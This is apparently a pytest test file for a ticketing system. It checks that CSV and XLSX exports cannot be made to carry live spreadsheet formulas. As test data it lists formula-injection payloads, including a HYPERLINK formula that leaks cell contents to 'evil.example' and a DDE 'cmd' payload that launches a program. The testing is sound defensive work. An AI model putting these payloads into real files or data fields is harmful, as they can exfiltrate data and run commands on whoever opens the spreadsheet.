"""A buyer whose name is a formula cannot have a spreadsheet of the organiser's execute it."""

import csv
import io
from collections.abc import Iterator
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest

from accounts.models import User
from reservations.bookings.command_queue import CommandQueue
from reservations.domain.commands import AdmitSeats, LockSeats, ReserveSeats
from reservations.formats.csv_text import restored
from reservations.models import Category, Event, Reservation, Seat
from tests.factories import make_event, make_user, person, seat_ids, signed_in
from tests.spreadsheets import formulas_in

pytestmark = [pytest.mark.django_db, pytest.mark.any_database]

# What Excel takes for an equals sign in Japanese.
WIDE = "\uff1d"
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\ttext",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    WIDE + "1+1",
    '=HYPERLINK("https://evil.example/"&A1;"x")',
    "=cmd|' /C calc'!A0",
    'x";=1+1;"',
    "x\n=1+1",
    "x; =1+1;y",
    f"x;{WIDE}1+1;y",
    'x;"=1+1;y',
    "x,=1+1",
    "x\t=1+1",
]
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
TABLES = ["changes", "bookings", "tickets", "actions"]
SIGNS = "=+-@\t\r\n" + WIDE


@pytest.fixture
def event() -> Event:
    """An event whose names of buyers, seats, categories and gates are all formulas."""
    event = make_event(seats=len(FORMULAS), name="=1+1", purchase_cap=100, seat_cap=100)
    steward = make_user("steward")
    for seat_id, formula in zip(seat_ids(event), FORMULAS, strict=True):
        category = Category.objects.create(event=event, name=formula)
        named = {"seat_number": formula, "section": formula, "row": formula, "number": formula}
        Seat.objects.filter(pk=seat_id).update(category=category, **named)
        # No form admits such names; an older release or an import may have.
        buyer = person(User.objects.create(username=formula, email=f"{formula}@example.com"))
        queue = CommandQueue(event.pk)
        queue.submit(LockSeats(buyer, (seat_id,)))
        answer = queue.submit(ReserveSeats(buyer, (seat_id,), "invoice"))
        booked = Reservation.objects.get(public_id=answer["reservation"]["id"])
        Reservation.objects.filter(pk=booked.pk).update(paid_at=booked.created_at)
        queue.submit(AdmitSeats(person(steward), booked.pk, (seat_id,), formula[:40]))
    return event


def _export(event: Event, table: str, form: str) -> bytes:
    admin = signed_in(make_user(is_superuser=True))
    answer = admin.get(f"/api/events/{event.pk}/exports/{table}/?form={form}")
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    return bytes(answer.getvalue())


def test_no_cell_of_a_csv_file_begins_like_a_formula(
    event: Event, subtests: pytest.Subtests
) -> None:
    for table in TABLES:
        with subtests.test(table):
            text = _export(event, table, "csv").decode("utf-8-sig")
            cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
            assert [cell for cell in cells if cell[:1] and cell[0] in SIGNS] == []
            assert [cell for cell in cells if cell.lstrip()[:1] and cell.lstrip()[0] in SIGNS] == []
            assert formulas_in(text) == []
            if table != "actions":
                assert set(FORMULAS) <= {restored(cell) for cell in cells}


def test_an_xlsx_file_has_texts_and_numbers_and_neither_formulas_nor_links(
    event: Event, subtests: pytest.Subtests
) -> None:
    for table in TABLES:
        with subtests.test(table):
            with ZipFile(io.BytesIO(_export(event, table, "xlsx"))) as book:
                names = book.namelist()
                sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
            assert not any("external" in name.lower() or "vba" in name.lower() for name in names)
            assert list(sheet.iter(f"{SHEET}f")) == []
            assert list(sheet.iter(f"{SHEET}hyperlink")) == []
            texts = set(_texts(sheet))
            if table != "actions":
                assert {"=1+1", "@SUM(1;1)"} <= texts


def _texts(sheet: Any) -> Iterator[str]:
    for cell in sheet.iter(f"{SHEET}c"):
        if cell.get("t") is not None:
            assert cell.get("t") == "inlineStr"
            yield "".join(part.text or "" for part in cell.iter(f"{SHEET}t"))


def test_the_file_name_is_not_the_events(event: Event) -> None:
    admin = signed_in(make_user(is_superuser=True))
    answer = admin.get(f"/api/events/{event.pk}/exports/tickets/?form=csv")
    assert answer.headers["Content-Disposition"] == (
        f'attachment; filename="event-{event.pk}-tickets.csv"'
    )
    answer.close()
